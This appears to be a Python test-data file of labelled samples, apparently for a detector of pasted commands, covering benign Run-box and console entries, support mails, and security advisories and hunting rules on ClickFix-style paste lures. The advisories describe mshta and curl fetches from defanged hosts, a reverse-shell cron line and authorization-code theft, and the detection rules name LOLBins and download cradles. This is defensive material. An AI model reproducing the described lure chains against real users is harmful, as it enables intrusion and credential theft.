RUNBOX = "run-box-plain"
for text in [
    "control intl.cpl,,3",
    "rundll32 printui.dll,PrintUIEntry /il",
    "%userprofile%\\AppData\\Roaming\\Microsoft\\Signatures",
    "%localappdata%\\Microsoft\\Outlook\\RoamCache",
    "%temp%\\Teams",
    "secpol.msc",
    "compmgmt.msc /computer:\\\\ws-1742.corp.example",
    "services.msc /computer=srv-print17",
    "\\\\fs17.corp.example\\Marketing\\Brand\\Logos",
    "\\\\nas17\\scans\\Buchhaltung",
    "\\\\dc17\\NETLOGON",
    "\\\\10.17.1.20\\share\\install",
    "mstsc /v:ts17.corp.example:3390 /f",
    "mstsc /v:10.17.4.11 /admin",
    "mstsc /edit C:\\Users\\Public\\Desktop\\ERP17.rdp",
    "ping -t gw17.corp.example",
    "ping -n 50 8.8.8.8",
    "cmd /k tracert -d 1.1.1.1",
    "cmd /k nslookup mail.corp17.example",
    'cmd /k "wmic bios get serialnumber"',
    'powershell -NoExit -Command "Get-Volume"',
    "msinfo32 /report C:\\Temp\\msinfo.txt",
    "msedge --inprivate https://intranet.corp17.example",
    'excel /r "\\\\fs17.corp.example\\Finance\\Budget_2027.xlsx"',
    "explorer shell:::{2559a1f3-21d7-11d4-bdaf-00c04f60b9f0}",
    "mstsc /v:rds-fin17.corp.example /w:1920 /h:1080",
    "mstsc /v:10.17.8.40:3389 /span",
    "\\\\fs17.corp.example\\Vertrieb\\Angebote\\2027\\Q1",
    "\\\\fs17.corp.example\\Scans\\Empfang",
    "\\\\srv-cad17\\Zeichnungen$",
    "\\\\nas-ops17\\isos\\win11-24h2",
    "\\\\10.17.2.30\\Transfer\\Lohn",
    "ping -t -l 1400 vpn17.corp.example",
    "ping -n 20 -w 500 printer-3og.corp17.example",
    'cmd /k "netstat -ano | findstr :3389"',
    'cmd /k "ipconfig /displaydns | findstr intranet"',
    'cmd /k "nltest /dsgetdc:corp17.example"',
    "cmd /k whoami /groups",
    "cmd /k klist",
    'cmd /k "net use"',
    'powershell -NoExit -Command "Test-ComputerSecureChannel -Verbose"',
    "control /name Microsoft.Mouse /page 1",
    "ms-settings:signinoptions-launchfaceenrollment",
    "ms-settings:regionlanguage-jpnime",
    "shell:Local AppData\\Microsoft\\Teams",
    "%appdata%\\Microsoft\\Sticky Notes",
    "%localappdata%\\Microsoft\\OneDrive\\logs\\Business1",
    "%ProgramFiles%\\Microsoft Office\\root\\Office16",
    "mmc lusrmgr.msc",
    "tsadmin.msc",
    "dhcpmgmt.msc /ComputerName dhcp17",
    "dnsmgmt.msc",
    "taskschd.msc /s srv-batch17",
]:
    ok(RUNBOX, RUN, None, text)

EXPLORER = "explorer-entry"
for text in [
    "\\\\fs17.corp.example\\Projekte\\2027\\Angebote",
    "\\\\nas17.home.example\\photos\\2026",
    "\\\\corp17.sharepoint.example@SSL\\DavWWWRoot\\sites\\HR\\Shared Documents",
    "C:\\Windows\\System32\\winevt\\Logs",
    "%localappdata%\\Google\\Chrome\\User Data\\Default",
    "%userprofile%\\OneDrive - Contoso17\\Documents",
    "Control Panel\\All Control Panel Items\\Credential Manager",
    "Control Panel\\Network and Internet\\Network Connections",
    "\\\\wsl.localhost\\Ubuntu-24.04\\home\\dev",
    "\\\\printsrv17\\",
    "ftp://ftp.vendor17.example/pub/drivers/",
    "\\\\fs17.corp.example\\Qualitaet\\Audits\\2026",
    "\\\\corp17.sharepoint.example@SSL\\DavWWWRoot\\sites\\Finance\\Freigegebene Dokumente",
    "C:\\ProgramData\\Microsoft\\IntuneManagementExtension\\Logs",
    "C:\\Windows\\CCM\\Logs",
    "%userprofile%\\.ssh",
    "%localappdata%\\Programs\\Python\\Python313",
    "D:\\Projekte\\Kunde-17\\Lieferungen",
    "\\\\wsl$\\Debian\\etc",
]:
    ok(EXPLORER, EXP, None, text)

# --- Browser-console snippets developers paste -------------------------------------------------------

CONSOLE = "console-snippet"
MDN = "https://developer.mozilla.org/en-US/docs/Web/API/"
DEVQA = "https://qa.webdev-exchange17.example/questions/"
CONSOLE_TEXTS = [
    (
        MDN + "Performance/getEntriesByType",
        "const [nav] = performance.getEntriesByType('navigation'); console.log(Math.round(nav.domContentLoadedEventEnd), 'ms DCL')",
    ),
    (
        MDN + "PerformanceObserver",
        "new PerformanceObserver(list => console.log('CLS delta', list.getEntries().reduce((s, e) => s + e.value, 0))).observe({type: 'layout-shift', buffered: true})",
    ),
    (
        MDN + "Document/querySelectorAll",
        "[...document.querySelectorAll('img[loading=lazy]')].filter(i => !i.complete).length",
    ),
    (
        MDN + "Element/getBoundingClientRect",
        "document.querySelector('header').getBoundingClientRect()",
    ),
    (MDN + "Navigator/serviceWorker", "(await navigator.serviceWorker.getRegistrations()).length"),
    (
        MDN + "CacheStorage/keys",
        "caches.keys().then(ks => Promise.all(ks.map(k => caches.delete(k))))",
    ),
    (MDN + "Storage/removeItem", "localStorage.removeItem('onboarding-tour-dismissed')"),
    (MDN + "Window/matchMedia", "window.matchMedia('(prefers-color-scheme: dark)').matches"),
    (
        MDN + "Intl/DateTimeFormat",
        "new Intl.DateTimeFormat('de-DE', {dateStyle: 'full', timeZone: 'Europe/Berlin'}).format(new Date())",
    ),
    (
        MDN + "Navigator/clipboard",
        "await navigator.clipboard.writeText(location.href + '#' + document.querySelector('h2').id)",
    ),
    (MDN + "Fetch_API/Using_Fetch", "await fetch('/api/v2/health').then(r => r.json())"),
    (
        MDN + "Console/table",
        "console.table([...document.links].map(a => ({text: a.textContent.trim(), href: a.href})).slice(0, 50))",
    ),
    (MDN + "Document/cookie", "document.cookie.includes('consent_given=1')"),
    (
        MDN + "Element/scrollIntoView",
        "document.querySelector('#pricing').scrollIntoView({behavior: 'smooth'})",
    ),
    (
        MDN + "MutationObserver",
        "new MutationObserver(m => console.log(m.length, 'mutations')).observe(document.body, {childList: true, subtree: true})",
    ),
    (MDN + "Web_Storage_API", "Object.keys(sessionStorage).filter(k => k.startsWith('draft:'))"),
    (
        MDN + "IntersectionObserver",
        "new IntersectionObserver(es => es.forEach(e => console.log(e.target.id, e.isIntersecting))).observe(document.querySelector('footer'))",
    ),
    (
        MDN + "Notification/requestPermission",
        "Notification.requestPermission().then(p => console.log(p))",
    ),
    (
        MDN + "Document/designMode",
        "document.querySelector('article').contentEditable = 'plaintext-only'",
    ),
    (
        MDN + "Window/getComputedStyle",
        "getComputedStyle(document.documentElement).getPropertyValue('--brand-primary')",
    ),
    (MDN + "URLSearchParams", "new URLSearchParams(location.search).get('utm_campaign')"),
    (MDN + "Crypto/randomUUID", "crypto.randomUUID()"),
    (
        MDN + "Blob",
        "const b = new Blob([JSON.stringify(data)], {type: 'application/json'}); const a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'export.json'; a.click()",
    ),
    (
        MDN + "AbortController",
        "const c = new AbortController(); setTimeout(() => c.abort(), 3000); await fetch('/api/slow', {signal: c.signal})",
    ),
    (MDN + "BroadcastChannel", "new BroadcastChannel('auth').postMessage({type: 'logout'})"),
    (
        DEVQA + "17301/list-event-listeners",
        "getEventListeners(document.querySelector('form#signup')).submit",
    ),
    (
        DEVQA + "17302/find-element-causing-overflow",
        "[...document.querySelectorAll('*')].filter(e => e.offsetWidth > document.documentElement.offsetWidth)",
    ),
    (
        DEVQA + "17303/outline-all-elements",
        "document.querySelectorAll('*').forEach(e => e.style.outline = '1px solid red')",
    ),
    (DEVQA + "17304/count-dom-nodes", "document.querySelectorAll('div:empty').length"),
    (
        DEVQA + "17305/react-version",
        "window.React?.version ?? document.querySelector('[data-reactroot]') ? 'react' : 'no react'",
    ),
    (
        DEVQA + "17306/download-all-image-urls",
        "copy([...document.images].map(i => i.currentSrc).join('\\n'))",
    ),
    (
        DEVQA + "17307/monitor-events",
        "monitorEvents(document.querySelector('#search'), ['focus', 'blur'])",
    ),
    (
        DEVQA + "17308/check-fonts-loaded",
        "document.fonts.ready.then(f => console.log([...f].map(x => x.family + ' ' + x.status)))",
    ),
    (DEVQA + "17309/clear-indexeddb", "indexedDB.deleteDatabase('workbox-expiration')"),
    (DEVQA + "17310/service-worker-version", "navigator.serviceWorker.controller?.state"),
    (
        DEVQA + "17311/unused-css",
        "[...document.styleSheets].flatMap(s => { try { return [...s.cssRules] } catch { return [] } }).length",
    ),
    (
        DEVQA + "17312/sort-table",
        "[...document.querySelectorAll('table tbody tr')].sort((a, b) => a.cells[2].textContent.localeCompare(b.cells[2].textContent)).forEach(r => r.parentNode.appendChild(r))",
    ),
    (
        DEVQA + "17313/github-collapse-diffs",
        "document.querySelectorAll('button[aria-label=\"Toggle diff contents\"]').forEach(b => b.click())",
    ),
    (DEVQA + "17314/youtube-playback-speed", "document.querySelector('video').playbackRate = 2.5"),
    (DEVQA + "17315/unsubscribe-all", "document.querySelectorAll('.comment-thread .reply').length"),
    (
        DEVQA + "17316/select-all-checkboxes",
        "document.querySelectorAll('input[type=checkbox][name^=notify_]').forEach(c => c.checked = false)",
    ),
    (DEVQA + "17317/word-count", "document.body.innerText.split(/\\s+/).filter(Boolean).length"),
    (
        DEVQA + "17318/timing-of-resources",
        "performance.getEntriesByType('resource').filter(r => r.initiatorType === 'script').reduce((s, r) => s + r.transferSize, 0) / 1024",
    ),
    (
        DEVQA + "17319/jquery-version",
        "window.jQuery ? jQuery('a[href^=http]').not('[href*=corp17]').length : 'no jQuery'",
    ),
    (DEVQA + "17320/redux-state", "JSON.parse(localStorage.getItem('persist:root') || '{}')"),
    (DEVQA + "17321/angular-debug", "ng.getComponent(document.querySelector('app-order-list'))"),
    (DEVQA + "17322/vue-devtools", "document.querySelector('#app').__vue_app__.version"),
    (
        DEVQA + "17323/websocket-debug",
        "const ws = new WebSocket('ws://localhost:8000/ws/orders'); ws.onmessage = e => console.log(JSON.parse(e.data))",
    ),
    (
        DEVQA + "17324/time-to-interactive",
        "console.time('render'); app.render(); console.timeEnd('render')",
    ),
    (DEVQA + "17325/dark-mode-toggle", "document.documentElement.classList.toggle('dark')"),
    (
        "https://docs.stripe.com/js",
        "stripe.retrievePaymentIntent('pi_3Q17_secret_abc').then(({paymentIntent}) => console.log(paymentIntent.status))",
    ),
    (
        "https://developers.google.com/tag-platform/tag-manager/datalayer",
        "window.dataLayer.filter(e => e.event)",
    ),
    (
        "https://docs.sentry.io/platforms/javascript/",
        "Sentry.captureMessage('manual test from console ' + new Date().toISOString())",
    ),
    ("https://posthog.com/docs/libraries/js", "posthog.debug(); posthog.capture('console_test')"),
    (
        "https://wiki.frontend-team17.example/debugging",
        "localStorage.setItem('debug', 'orders:*,-orders:poll'); location.reload()",
    ),
    (
        "https://wiki.frontend-team17.example/feature-flags",
        "window.__FLAGS__ = {...window.__FLAGS__, newCheckout: true}",
    ),
    (
        "https://wiki.frontend-team17.example/perf",
        "performance.mark('start'); await loadDashboard(); performance.measure('dashboard', 'start'); performance.getEntriesByName('dashboard')",
    ),
    (
        "https://wiki.frontend-team17.example/a11y",
        "[...document.querySelectorAll('button')].filter(b => !b.textContent.trim() && !b.getAttribute('aria-label'))",
    ),
    ("https://wiki.frontend-team17.example/i18n", "i18next.changeLanguage('pl')"),
    (
        "https://wiki.frontend-team17.example/sw",
        "await (await navigator.serviceWorker.ready).update()",
    ),
    ("https://wiki.frontend-team17.example/grid", "document.body.classList.add('debug-grid')"),
    (
        "https://wiki.frontend-team17.example/api-mock",
        "await fetch('/__mocks/reset', {method: 'POST'})",
    ),
    (
        "https://wiki.frontend-team17.example/tokens",
        "JSON.parse(atob(sessionStorage.getItem('oidc.user:web').split('.')[1] || 'e30='))",
    ),
    (
        "https://wiki.frontend-team17.example/errors",
        "window.onerror = (m, s, l, c, e) => console.log('caught', m, s, l, c, e)",
    ),
]
for page, text in CONSOLE_TEXTS:
    ok(CONSOLE, CON, page, text)

# --- Security write-ups, advisories and hunting content quoting lures ---------------------------------

PROSE = "prose-security"
BLOG = "https://research.threat-desk17.example/"
PROSE_TEXTS = [
    (
        BLOG + "2026/11/clickfix-hotel-wave",
        "The pages instructed visitors to press Win+R and paste a command that the page had silently placed on the clipboard. The command launched mshta against hxxps://verify[.]bad-host[.]invalid/c and the HTA dropped a loader. Users who only read the page never saw the command itself.",
    ),
    (
        BLOG + "2026/10/filefix-notes",
        "FileFix variants abuse the File Explorer address bar instead of the Run dialog: the pasted text starts with a PowerShell command and is padded with spaces so that only a harmless-looking path like C:\\HR\\Policy.docx shows in the box.",
    ),
    (
        BLOG + "2026/09/macos-terminal-lures",
        "Fake app pages for macOS ask the visitor to open Terminal and paste a line that decodes base64 and pipes it into zsh. The payload prompts for the login password with osascript and validates it with dscl before exfiltrating keychain data.",
    ),
    (
        BLOG + "2026/08/dns-staged",
        "Newer lures stage the second step in DNS: nslookup queries a TXT record and the output is fed to PowerShell. Blocking outbound DNS to anything but the corporate resolvers breaks this chain.",
    ),
    (
        "https://cert.national-cyber17.example/advisories/2026-114",
        "Advisory 2026-114: fake CAPTCHA pages ('I'm not a robot') on compromised WordPress sites. Indicators (defanged): 198.51.100[.]23, stage2[.]evil[.]invalid. Recommended: restrict the Run dialog via GPO (User Configuration > Administrative Templates > Start Menu and Taskbar > Remove Run menu from Start Menu) and alert on mshta.exe with a URL argument.",
    ),
    (
        "https://cert.national-cyber17.example/advisories/2026-121",
        "Warnung: Gefälschte Fehlermeldungen fordern Nutzer auf, einen Befehl mit Windows+R einzufügen. Führen Sie niemals Befehle aus, die eine Webseite Ihnen vorgibt. Melden Sie solche Seiten an Ihr CERT.",
    ),
    (
        "https://cert.national-cyber17.example/fr/avis-2026-33",
        "Avis : des pages de faux CAPTCHA demandent d'ouvrir la boîte Exécuter (Win+R) et d'y coller une commande PowerShell. Aucun service légitime ne demande cela. En cas de doute, fermez l'onglet et prévenez le support.",
    ),
    (
        "https://incibe17.example/avisos/clickfix",
        "Aviso: campañas de ClickFix suplantan a Cloudflare y piden pegar un comando en Ejecutar. Si ya lo hizo, desconecte el equipo de la red y contacte con su equipo de seguridad.",
    ),
    (
        "https://csirt17.example/it/allerta-2026-77",
        "Allerta: false pagine di verifica chiedono di premere Win+R e incollare un comando. Non farlo. Gli indicatori sono nell'allegato STIX.",
    ),
    (
        "https://cert17.example/pt/alerta-falso-captcha",
        "Alerta: páginas com falso CAPTCHA pedem para colar um comando no Executar do Windows. Nenhum site legítimo faz isso.",
    ),
    (
        "https://ncsc17.example/nl/nieuws/nep-captcha",
        "Let op: nep-captcha's vragen u om op Windows+R te drukken en een opdracht te plakken. Doe dit nooit; sluit het tabblad.",
    ),
    (
        "https://cert17.example/pl/ostrzezenie-clickfix",
        "Ostrzeżenie: fałszywe strony CAPTCHA każą nacisnąć Win+R i wkleić polecenie. Nie wykonuj poleceń z nieznanych stron.",
    ),
    (
        "https://usom17.example/tr/duyuru-clickfix",
        "Uyarı: Sahte CAPTCHA sayfaları Win+R ile komut yapıştırmanızı istiyor. Bu komutları asla çalıştırmayın.",
    ),
    (
        "https://cert17.example/ru/preduprezhdenie",
        "Внимание: поддельные страницы CAPTCHA просят нажать Win+R и вставить команду. Никогда не выполняйте такие команды.",
    ),
    (
        "https://jpcert17.example/ja/clickfix",
        "注意喚起: 偽の CAPTCHA ページが Win+R を押してコマンドを貼り付けるよう指示します。絶対に実行しないでください。",
    ),
    (
        "https://cert17.example/zh/clickfix-jinggao",
        "警告：虚假验证码页面要求按 Win+R 并粘贴命令。请勿执行来历不明的命令。",
    ),
    (
        "https://cert17.example/ar/tahdhir",
        "تحذير: صفحات تحقق مزيفة تطلب الضغط على Win+R ولصق أمر. لا تنفذ أي أمر من صفحة غير موثوقة.",
    ),
    (
        BLOG + "hunting/kql-run-dialog",
        'DeviceRegistryEvents\n| where RegistryKey has @"Explorer\\RunMRU"\n| where RegistryValueData has_any ("powershell", "mshta", "curl", "msiexec")\n| project Timestamp, DeviceName, InitiatingProcessAccountName, RegistryValueData',
    ),
    (
        BLOG + "hunting/kql-mshta",
        'DeviceProcessEvents\n| where FileName =~ "mshta.exe" and ProcessCommandLine matches regex @"https?://"\n| summarize count() by DeviceName, ProcessCommandLine\n| order by count_ desc',
    ),
    (
        BLOG + "hunting/spl-powershell",
        'index=wineventlog EventCode=4104 ScriptBlockText="*Invoke-Expression*" ScriptBlockText="*Net.WebClient*"\n| stats count by host, user\n| where count > 3',
    ),
    (
        BLOG + "hunting/spl-explorer-child",
        'index=sysmon EventCode=1 ParentImage="*\\\\explorer.exe" (Image="*\\\\powershell.exe" OR Image="*\\\\mshta.exe") CommandLine="*http*"\n| table _time host User CommandLine',
    ),
    (
        BLOG + "hunting/sigma-runmru",
        "title: Suspicious RunMRU Entry\nlogsource:\n  product: windows\n  category: registry_set\ndetection:\n  selection:\n    TargetObject|contains: '\\Explorer\\RunMRU\\'\n    Details|contains:\n      - 'iex'\n      - 'mshta'\n  condition: selection\nlevel: high",
    ),
    (
        BLOG + "hunting/yara-hta",
        'rule HTA_Loader_Generic_17 {\n  strings:\n    $a = "<HTA:APPLICATION" nocase\n    $b = "WScript.Shell" nocase\n    $c = "FromBase64String" nocase\n  condition:\n    filesize < 200KB and all of them\n}',
    ),
    (
        BLOG + "hunting/eql",
        'process where event.type == "start" and process.parent.name == "explorer.exe" and\n  process.name in ("powershell.exe", "mshta.exe") and process.command_line : "*http*"',
    ),
    (
        BLOG + "hunting/osquery",
        "SELECT name, path, cmdline FROM processes WHERE name IN ('mshta.exe','wscript.exe') AND cmdline LIKE '%http%';",
    ),
    (
        "https://soc.corp17.example/incidents/IR-2026-1742",
        "IR-2026-1742 summary: user visited a compromised dentist site, followed a fake 'verify you are human' prompt and ran the pasted command. EDR blocked the second stage (hxxp://203.0.113[.]9/s.ps1). Host re-imaged, password reset, no lateral movement observed.",
    ),
    (
        "https://soc.corp17.example/incidents/IR-2026-1758",
        "IR-2026-1758: device-code phishing. Victim entered a code at the real microsoft.com/devicelogin page after a Teams message from an external tenant. Tokens revoked (Revoke-MgUserSignInSession), CA policy now blocks device code flow for all users except the conference-room group.",
    ),
    (
        "https://soc.corp17.example/incidents/IR-2026-1763",
        "IR-2026-1763: ConsentFix attempt. The phishing page asked the user to paste the http://localhost/?code=... address back into the page. Reported via the phish button before submission; no token was redeemed.",
    ),
    (
        "https://soc.corp17.example/playbooks/clickfix",
        "Playbook step 3: pull the RunMRU key for the user (HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU) and the PowerShell history file (%APPDATA%\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt) before re-imaging.",
    ),
    (
        "https://awareness.corp17.example/training/module-4",
        'Quiz: A website says "Press Windows+R, paste the code and press Enter to prove you\'re human." What do you do? (a) Follow the steps (b) Close the tab and report it ✔ (c) Ask a colleague to try',
    ),
    (
        "https://awareness.corp17.example/de/schulung",
        "Merke: Keine echte Webseite verlangt, dass Sie etwas in Windows+R oder die Eingabeaufforderung einfügen. Schließen Sie die Seite und melden Sie sie über den Button „Phishing melden“.",
    ),
    (
        "https://awareness.corp17.example/es/formacion",
        "Recuerde: ningún CAPTCHA real le pide abrir Ejecutar ni pegar comandos. Cierre la pestaña y avise a seguridad.",
    ),
    (
        "https://awareness.corp17.example/fr/formation",
        "Rappel : aucun vrai CAPTCHA ne vous demande d'ouvrir un terminal. En cas de doute, appelez le service informatique interne (poste 1717).",
    ),
    (
        "https://awareness.corp17.example/ja/kenshu",
        "ポイント: 本物の CAPTCHA が「Windows + R を押して貼り付け」を求めることはありません。",
    ),
    (
        BLOG + "2026/07/consentfix",
        "ConsentFix combines OAuth with ClickFix: the victim signs in on the real login page, lands on a localhost redirect that fails to load, and is told to paste that URL (with its code= parameter) into the attacker's page, which redeems the authorization code.",
    ),
    (
        BLOG + "2026/06/device-code",
        "In device-code phishing the attacker starts the flow, sends the user code (e.g. ABCD-EFGH) with a pretext, and waits for the victim to enter it on the genuine verification page. Conditional Access can block the device code flow for most users.",
    ),
    (
        BLOG + "2026/05/callback",
        "Callback phishing ('BazarCall' style) sends a fake invoice with a phone number. The caller is talked into installing remote-support software. There is no link or attachment to scan, which is the point.",
    ),
    (
        BLOG + "2026/04/etherhiding",
        "EtherHiding stores the next stage in a smart contract and fetches it with an eth_call from injected JavaScript, so takedowns of a hosting provider don't break the chain.",
    ),
    (
        BLOG + "2026/03/pastejacking",
        "Pastejacking on documentation sites replaces what you copy with something else. Always paste into a text editor first if the snippet is long, and read it.",
    ),
    (
        BLOG + "2026/02/lolbins",
        "Living-off-the-land binaries seen in these campaigns: mshta.exe, msiexec.exe (/i with a URL), rundll32.exe loading from \\\\host@SSL\\DavWWWRoot, conhost.exe --headless, finger.exe and certutil.exe -urlcache. None are unusual on their own; the URL argument is.",
    ),
    (
        "https://www.reddit17.example/r/sysadmin/comments/17abc/psa_fake_captcha",
        "PSA: one of our users got hit by the fake captcha thing. Page said press Win+R, Ctrl+V, Enter. The clipboard had 'mshta hxxps://...' in it. We've now disabled Win+R via GPO for non-IT staff. Anyone found a cleaner way?",
    ),
    (
        "https://www.reddit17.example/r/msp/comments/17def/clickfix_rule",
        "We added an ASR rule and a Defender custom indicator. Also the RunMRU hunt query from the MS blog catches it after the fact. Users hate losing the Run box though.",
    ),
    (
        "https://mastodon.infosec17.example/@analyst/1717",
        "New #ClickFix kit spotted: Turnstile clone, payload via finger.exe to a bare IP, then PowerShell. IOCs in the thread, defanged. #ThreatIntel",
    ),
    (
        "https://github.com/corp17-sec/detections/blob/main/README.md",
        "This repository holds our detection rules (Sigma, KQL and YARA). Test data under tests/ is synthetic and uses reserved names such as example.invalid.",
    ),
    (
        BLOG + "2026/01/exclusions",
        "Attackers love Defender exclusions: hunt for Add-MpPreference -ExclusionPath in script block logs. Legitimate exclusions should come from Intune or GPO, never from an interactive shell.",
    ),
    (
        "https://vendor-edr17.example/docs/exclusions",
        "Recommended exclusions for build servers: the agent work folder (e.g. D:\\agent\\_work) and the package cache. Do not exclude C:\\Users\\*\\AppData or %TEMP%.",
    ),
    (
        "https://vendor-edr17.example/docs/release-notes/5.17",
        "5.17: new detection for clipboard-to-Run-dialog execution chains (explorer.exe → powershell.exe with a remote URL within 5 seconds of a paste).",
    ),
    (
        BLOG + "2026/12/ai-chat-lures",
        "A newer lure is a shared AI-chat conversation that 'answers' a how-to question with a Terminal one-liner. The shared page is on the real chat domain; the command fetches a script from the attacker.",
    ),
    (
        BLOG + "2026/12/interview-repos",
        "Fake job interviews send a take-home repository whose npm postinstall script fetches a stealer. Review package.json scripts before running npm install on code from strangers.",
    ),
    (
        "https://soc.corp17.example/wiki/ioc-format",
        "IOC format: defang URLs (hxxps://, [.]) and IPs (203.0.113[.]50) in tickets; store the raw value only in the TIP.",
    ),
    (
        BLOG + "hunting/kql-headless-conhost",
        'DeviceProcessEvents\n| where FileName =~ "conhost.exe" and ProcessCommandLine has "--headless"\n| where InitiatingProcessFileName =~ "explorer.exe"\n| project Timestamp, DeviceName, ProcessCommandLine',
    ),
    (
        BLOG + "hunting/spl-finger",
        'index=sysmon EventCode=1 Image="*\\\\finger.exe"\n| stats count values(CommandLine) by host\n| sort - count',
    ),
    (
        BLOG + "hunting/sigma-msiexec-url",
        "title: Msiexec Installing From a URL\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  selection:\n    Image|endswith: '\\msiexec.exe'\n    CommandLine|contains: 'http'\n  condition: selection\nlevel: medium",
    ),
    (
        BLOG + "hunting/yara-ps-loader",
        'rule PS_Loader_FromBase64_17 {\n  strings:\n    $a = "FromBase64String" ascii wide nocase\n    $b = "DownloadString" ascii wide nocase\n  condition:\n    all of them and filesize < 50KB\n}',
    ),
    (
        BLOG + "hunting/kql-webdav",
        'DeviceNetworkEvents\n| where InitiatingProcessFileName in~ ("rundll32.exe", "svchost.exe") and RemoteUrl has "DavWWWRoot"\n| summarize count() by DeviceName, RemoteUrl',
    ),
    (
        "https://soc.corp17.example/incidents/IR-2026-1771",
        "IR-2026-1771: macOS user pasted a fake 'fix disk space' command from a shared chat page. The one-liner ran curl against hxxps://clean[.]bad-example[.]invalid and asked for the login password. Password rotated, Keychain items reviewed, device wiped via Jamf.",
    ),
    (
        "https://soc.corp17.example/incidents/IR-2026-1780",
        "IR-2026-1780: Linux dev box. A forum post suggested adding a cron line that opened a reverse shell to 203.0.113[.]44. Caught by auditd rule on crontab changes. Box rebuilt.",
    ),
    (
        "https://awareness.corp17.example/it/formazione",
        "Ricorda: nessun CAPTCHA vero ti chiede di aprire Esegui (Win+R) o il Terminale e di incollare un comando. Chiudi la pagina e segnala con il pulsante 'Segnala phishing'.",
    ),
    (
        "https://awareness.corp17.example/pl/szkolenie",
        "Pamiętaj: prawdziwa strona nigdy nie prosi o wklejenie polecenia do okna Uruchom ani Terminala. Zamknij kartę i zgłoś to do działu IT.",
    ),
    (
        "https://awareness.corp17.example/tr/egitim",
        "Unutmayın: Gerçek bir CAPTCHA asla Win+R açıp komut yapıştırmanızı istemez. Sekmeyi kapatın ve BT'ye bildirin.",
    ),
]
for page, text in PROSE_TEXTS:
    ok(PROSE, UNK, page, text)

# --- Genuine support mails, order confirmations and notices (555 numbers, no alarm) ---------------------

MAIL = "support-mail"
MAILS = [
    "Hello Anna,\n\nThanks for contacting the IT Service Desk. Your ticket INC0171742 (Outlook keeps asking for the password) has been resolved. If it happens again, reply to this mail or call us at +1 (555) 017-1000, Mon-Fri 8-18.\n\nBest regards,\nService Desk",
    "Hi team, the VPN gateway maintenance is scheduled for Saturday 09:00-11:00 UTC. No action needed. Questions: helpdesk@corp17.example or ext. 1717 (external +1 555 017 1717).",
    "Your order #17-88341 has shipped! Estimated delivery: Dec 10. Track it in your account. Questions about your order? Call customer care at 1-555-017-2200.",
    "Reminder: your dental appointment is on Tuesday, 14:30, with Dr. Okafor. To reschedule call (555) 017-3321.",
    "Guten Tag Herr Brandt,\n\nIhr Ticket #17421 (Drucker im 2. OG) wurde erledigt. Bei Fragen erreichen Sie den IT-Support unter +49 555 0171 200.\n\nViele Grüße\nIhre IT",
    "Ihre Bestellung 17-55320 wurde versandt. Voraussichtliche Zustellung: Mittwoch. Kundenservice: 0555 017 4400 (Mo–Fr 8–20 Uhr).",
    "Bonjour Mme Laurent,\n\nVotre demande n° 17-338 (accès au dossier partagé Compta) a été traitée. Pour toute question : support informatique, 01 55 50 17 00.\n\nCordialement",
    "Votre commande n° 17-7712 est prête à être retirée en magasin. Service client : 01 55 50 17 90.",
    "Hola Carlos,\n\nTu incidencia INC-17-204 (no funciona la impresora) está resuelta. Si vuelve a pasar, llámanos al +34 555 017 100.\n\nUn saludo,\nSoporte TI",
    "Su pedido 17-4419 ha sido enviado. Para cualquier duda, atención al cliente: +34 555 017 300.",
    "Ciao Giulia,\n\nil ticket 17-552 (accesso VPN) è stato chiuso. Per assistenza chiama il +39 555 017 1200.\n\nSaluti,\nHelpdesk IT",
    "Il tuo ordine 17-9034 è in consegna oggi. Servizio clienti: +39 555 017 4500.",
    "Olá Pedro,\n\nO seu pedido de suporte 17-118 (e-mail no telemóvel) foi resolvido. Dúvidas: +351 555 017 100.\n\nCumprimentos,\nSuporte TI",
    "A sua encomenda 17-6621 foi expedida. Apoio ao cliente: +351 555 017 900.",
    "Beste Sanne,\n\nJe melding 17-0441 (wachtwoord verlopen) is opgelost. Vragen? Bel de servicedesk: +31 555 017 100.\n\nMet vriendelijke groet,\nServicedesk",
    "Je bestelling 17-2290 is onderweg. Klantenservice: +31 555 017 800.",
    "Dzień dobry Panie Tomaszu,\n\nzgłoszenie 17-713 (drukarka) zostało zamknięte. W razie pytań: +48 555 017 100.\n\nPozdrawiamy,\nDział IT",
    "Twoje zamówienie 17-3381 zostało wysłane. Obsługa klienta: +48 555 017 600.",
    "Merhaba Ayşe Hanım,\n\n17-229 numaralı talebiniz (e-posta kotası) çözüldü. Sorularınız için BT destek: +90 555 017 1000.\n\nSaygılarımızla",
    "Siparişiniz 17-8810 kargoya verildi. Müşteri hizmetleri: +90 555 017 2000.",
    "Здравствуйте, Ирина!\n\nВаша заявка 17-404 (доступ к общей папке) выполнена. Вопросы: служба поддержки +7 555 017-10-00.\n\nС уважением, ИТ-отдел",
    "Ваш заказ 17-6120 передан в доставку. Служба поддержки клиентов: +7 555 017-20-00.",
    "山田様\n\nお問い合わせ番号 17-118（プリンターが印刷できない）は解決済みです。ご不明点はヘルプデスク 03-5550-1700 までご連絡ください。",
    "ご注文 17-4420 を発送しました。お問い合わせ: カスタマーセンター 0120-555-017",
    "王先生您好：\n\n您的工单 17-331（邮箱无法同步）已处理完毕。如有问题请致电 IT 服务台 +86 555 0170 1000。",
    "您的订单 17-7788 已发货。客服电话：+86 555 0170 2000。",
    "السيد أحمد،\n\nتم حل طلبك رقم 17-552 (مشكلة الطابعة). للاستفسار اتصل بالدعم الفني على +971 555 017 100.\n\nمع التحية",
    "تم شحن طلبك رقم 17-9012. خدمة العملاء: +966 555 017 200.",
    "Dear customer, your broadband engineer visit is confirmed for 12 Dec, 8am-1pm. Need to change it? Call 0555 017 6000 or use the app.",
    "Your prescription is ready for pickup at Elm Street Pharmacy. Questions: (555) 017-4141.",
    "Hi, this is a reminder that your car is due for its annual service. Book online or call the workshop on (555) 017-8080.",
    "Thanks for your payment of $84.20 to City Water Utility. Account 17-22881. Billing questions: 1-555-017-9000.",
    "Your library books are due on 15 December. Renew online or call the branch at (555) 017-2727.",
    "The school office will be closed on Friday for staff training. Urgent matters: (555) 017-5050.",
    "Hi Priya, your laptop replacement (asset LT-1742) is ready at the IT bar on floor 3. If you can't come by, call ext. 4417 or +44 555 017 4417 and we'll ship it.",
    "Your hotel booking is confirmed: 2 nights, check-in 18 Dec. Reception: +43 555 017 300. Free cancellation until 16 Dec.",
    "Your flight LH-1717 on 20 Dec has a new departure time: 10:45. Manage your booking in the app or call +49 555 017 0700.",
